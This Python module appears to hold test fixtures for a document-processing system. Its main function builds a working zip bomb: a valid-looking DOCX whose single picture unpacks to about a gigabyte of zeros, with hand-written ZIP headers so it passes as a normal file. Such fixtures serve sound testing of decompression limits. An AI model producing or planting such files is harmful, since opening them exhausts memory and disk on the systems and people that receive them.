"""A real zip bomb, built as an attacker would: a DOCX whose one picture is a gigabyte of
zeros, deflated about a thousand to one. Deflating a gigabyte takes seconds, so the stream
is made the cheap way: one megabyte deflated with a full flush (which resets the compressor,
so every further megabyte deflates to the very same bytes) and repeated."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from functools import cache

MB = 1024 * 1024
_DEFLATE = 8


def arkiv(deler: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as zip_:
        for navn, innhold in deler.items():
            zip_.writestr(navn, innhold)
    return buffer.getvalue()


def tekst(ord_: int, seed: int = 17) -> bytes:
    """Prose-like text (random words), which deflates as ordinary documents do."""
    tilfeldig = random.Random(seed)
    ordliste = ["prosjekt", "legevakt", "kommune", "samhandling", "pasient", "tiltak",
                "kompetanse", "tjeneste", "evaluering", "plan"]  # fmt: skip
    return " ".join(f"{tilfeldig.choice(ordliste)}{tilfeldig.randint(0, 999)}"
                    for _ in range(ord_)).encode()  # fmt: skip


@cache
def docx_bombe(utpakket_mb: int = 1024) -> bytes:
    """A valid DOCX (zipfile reads it) whose picture unpacks to `utpakket_mb` MB of zeros."""
    null = bytes(MB)
    pakker = zlib.compressobj(9, zlib.DEFLATED, -15)
    blokk = pakker.compress(null) + pakker.flush(zlib.Z_FULL_FLUSH)
    strom = blokk * utpakket_mb + pakker.flush()
    crc = 0
    for _ in range(utpakket_mb):
        crc = zlib.crc32(null, crc)
    deler = [_deflatert("[Content_Types].xml", b"<Types/>"),
             _deflatert("word/document.xml", b"<w:document/>"),
             ("word/media/image1.png", strom, crc, utpakket_mb * MB)]  # fmt: skip
    return _zip(deler)


def _deflatert(navn: str, innhold: bytes) -> tuple[str, bytes, int, int]:
    pakker = zlib.compressobj(9, zlib.DEFLATED, -15)
    return navn, pakker.compress(innhold) + pakker.flush(), zlib.crc32(innhold), len(innhold)


def _zip(deler: list[tuple[str, bytes, int, int]]) -> bytes:
    """Local headers, data, central directory, end record (no ZIP64: all under 4 GiB)."""
    ut, katalog = io.BytesIO(), io.BytesIO()
    for navn, data, crc, storrelse in deler:
        felles = struct.pack("<HHHHHIIIHH", 20, 0, _DEFLATE, 0, 0x21, crc, len(data),
                             storrelse, len(navn), 0)  # fmt: skip
        katalog.write(b"PK\x01\x02" + struct.pack("<H", 20) + felles
                      + struct.pack("<HHHII", 0, 0, 0, 0, ut.tell()) + navn.encode())  # fmt: skip
        ut.write(b"PK\x03\x04" + felles + navn.encode() + data)
    start, lengde = ut.tell(), katalog.tell()
    ut.write(katalog.getvalue())
    ut.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(deler), len(deler), lengde,
                                         start, 0))  # fmt: skip
    return ut.getvalue()
